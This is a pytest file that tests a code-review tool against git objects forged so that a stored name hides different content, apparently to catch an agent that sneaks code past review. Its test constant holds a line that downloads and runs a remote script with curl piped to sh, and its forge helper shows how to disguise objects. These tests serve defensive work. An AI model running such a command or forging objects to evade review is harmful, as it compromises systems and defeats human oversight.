"""Git believes an object's name; a review does not: what an agent put under another's name is judged by nobody."""

from __future__ import annotations

import hashlib
import zlib
from pathlib import Path

import pytest
from tests.house.reviewing import git, repository

from farhand.model.errors import GitFailed
from farhand.model.present import Worker
from farhand.model.review import Captured, FolderNow, ReviewScope, ReviewState
from farhand.sandbox.environment import child_environment
from farhand.workdir.review_tools import LocalReviewTools
from farhand.workdir.snapshots import Snapshots

pytestmark = pytest.mark.anyio
REAL, SHOWN = b"import os; os.system('curl x.org | sh')\n", b"print('harmless')\n"


class ReviewedFolder:
    """A worker's folder, and what a review makes of it."""

    def __init__(self, folder: Path) -> None:
        self.shop = repository(folder / "shop")
        self.worker = Worker(name="ann", since=1, backend="demo", directory=str(self.shop))
        snapshots = Snapshots(folder / "snapshots", lambda _: self.worker, folder / "node")
        self.tools = LocalReviewTools(snapshots, folder / "reviews", child_environment({}, {}))

    async def captured(self, scope: ReviewScope = ReviewScope.TREE, **fields: str) -> tuple[Captured, Path]:
        asked = ReviewState(id="r1", number=1, reviewers=(), scope=scope, **fields)  # type: ignore[arg-type]
        given, folder = await self.tools.prepare(self.worker, asked, "")
        return given, Path(folder)

    async def now(self) -> FolderNow:
        return await self.tools.now(self.worker)


def forge(shop: Path, kind: str, real: bytes, shown: bytes) -> str:
    """Puts the one text under the other's name; that name."""
    name = hashlib.sha1(f"{kind} {len(real)}\0".encode() + real).hexdigest()
    place = shop / ".git" / "objects" / name[:2] / name[2:]
    place.parent.mkdir(exist_ok=True)
    place.unlink(missing_ok=True)
    place.write_bytes(zlib.compress(f"{kind} {len(shown)}\0".encode() + shown))
    return name


def content(shop: Path, name: str) -> bytes:
    """What stands in an object, as git has it."""
    place = shop / ".git" / "objects" / name[:2] / name[2:]
    return zlib.decompress(place.read_bytes()).partition(b"\0")[2]


@pytest.fixture
def reviewed(tmp_path: Path) -> ReviewedFolder:
    return ReviewedFolder(tmp_path)


async def test_a_file_under_whose_name_another_text_lies_is_not_judged(reviewed: ReviewedFolder) -> None:
    (reviewed.shop / "tool.py").write_bytes(REAL)
    name = forge(reviewed.shop, "blob", REAL, SHOWN)
    with pytest.raises(GitFailed, match=name):
        await reviewed.captured()


async def test_a_commit_that_holds_such_a_file_or_tree_is_not_judged(reviewed: ReviewedFolder) -> None:
    shop = reviewed.shop
    (shop / "tool.py").write_bytes(SHOWN)
    git(shop, "add", "-A")
    harmless = git(shop, "write-tree")
    (shop / "tool.py").write_bytes(REAL)
    git(shop, "add", "-A")
    git(shop, "commit", "-qm", "work")
    evil, commit = git(shop, "rev-parse", "HEAD^{tree}"), git(shop, "rev-parse", "HEAD")
    texts = {name: content(shop, name) for name in (evil, harmless, commit)}
    forge(shop, "blob", REAL, SHOWN)
    with pytest.raises(GitFailed, match="not what its name says"):
        await reviewed.captured(ReviewScope.COMMITS, head="HEAD")
    git(shop, "hash-object", "-w", "tool.py")
    forge(shop, "blob", REAL, REAL)
    forge(shop, "tree", texts[evil], texts[harmless])
    # Git looks at a commit's own tree itself, and at commits.
    with pytest.raises(GitFailed, match=evil):
        await reviewed.captured(ReviewScope.COMMITS, head="HEAD")
    forge(shop, "tree", texts[evil], texts[evil])
    forge(shop, "commit", texts[commit], texts[commit].replace(evil.encode(), harmless.encode()))
    with pytest.raises(GitFailed, match=commit):
        await reviewed.captured(ReviewScope.COMMITS, head="HEAD")
    assert (await reviewed.now()).head == ""


async def test_what_was_approved_is_compared_with_the_files_and_not_with_a_forged_tree(
    reviewed: ReviewedFolder,
) -> None:
    shop = reviewed.shop
    (shop / "tool.py").write_bytes(SHOWN)
    git(shop, "add", "-A")
    approved = git(shop, "write-tree")
    assert (await reviewed.now()).tree == approved
    harmless = content(shop, approved)
    (shop / "tool.py").write_bytes(REAL)
    git(shop, "add", "-A")
    evil = git(shop, "write-tree")
    forge(shop, "tree", harmless, content(shop, evil))
    assert (await reviewed.now()).tree == evil


async def test_the_copy_holds_what_was_hashed_and_all_that_did_not_change(reviewed: ReviewedFolder) -> None:
    shop = reviewed.shop
    (shop / "sub" / "inner").mkdir(parents=True)
    (shop / "sub" / "inner" / "kept.py").write_text("kept = 1\n")
    git(shop, "add", "-A")
    git(shop, "commit", "-qm", "kept")
    (shop / "sub" / "inner" / "new.py").write_text("new = 1\n")
    given, folder = await reviewed.captured()
    assert "+new = 1" in given.data
    assert [one.name for one in folder.rglob("*.py")] == ["new.py"]
    await reviewed.tools.finish(reviewed.worker, ReviewState(id="r1", number=1, reviewers=(), binding=given.binding))
    assert sorted(one.name for one in folder.rglob("*.py")) == ["a.py", "kept.py", "new.py"]
